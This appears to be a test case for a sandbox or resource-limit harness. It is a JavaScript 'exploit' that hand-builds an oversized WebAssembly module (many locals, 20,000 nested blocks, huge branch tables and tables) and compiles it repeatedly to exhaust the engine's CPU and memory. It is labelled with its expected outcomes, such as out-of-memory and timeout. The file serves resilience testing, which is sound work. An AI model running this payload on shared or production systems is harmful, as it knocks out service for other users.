// exploit: has the engine compile WebAssembly that is small to write and large to translate: many locals, deep blocks, wide branches, huge tables
// part: no
// outcome: finished exited signal out-of-memory cpu-timeout wall-timeout
// wall: 8000
// says: begun
const leb = (value) => {
  const bytes = []
  do {
    bytes.push((value & 0x7f) | (value > 0x7f ? 0x80 : 0))
    value >>>= 7
  } while (value > 0)
  return bytes
}
const section = (id, body) => Buffer.concat([Buffer.from([id, ...leb(body.length)]), body])
const functionOf = (code) => {
  const body = Buffer.concat([Buffer.from([1, ...leb(49_000), 0x7e]), code, Buffer.from([0x0b])])
  return Buffer.concat([Buffer.from(leb(body.length)), body])
}
const deep = Buffer.concat([Buffer.alloc(2 * 20_000, Buffer.from([0x03, 0x40])), Buffer.from([0x41, 0, 0x0e, ...leb(60_000)]), Buffer.alloc(60_001), Buffer.alloc(20_000, 0x0b)])
const count = 200
const module_ = Buffer.concat([
  Buffer.from('\0asm\x01\0\0\0', 'latin1'),
  section(1, Buffer.from([1, 0x60, 0, 0])),
  section(3, Buffer.from([...leb(count), ...Array(count).fill(0)])),
  section(4, Buffer.from([1, 0x70, 0, ...leb(10_000_000)])),
  section(10, Buffer.concat([Buffer.from(leb(count)), ...Array(count).fill(functionOf(deep))])),
])
console.log('begun')
for (let round = 0; round < 50; round += 1) {
  try {
    new WebAssembly.Instance(new WebAssembly.Module(module_))
    new WebAssembly.Table({ element: 'anyfunc', initial: 10_000_000 })
    new WebAssembly.Memory({ initial: 1, maximum: 65_536 }).grow(3000)
  } catch (error) {
    if (round === 0) console.log(String(error).slice(0, 200))
  }
}
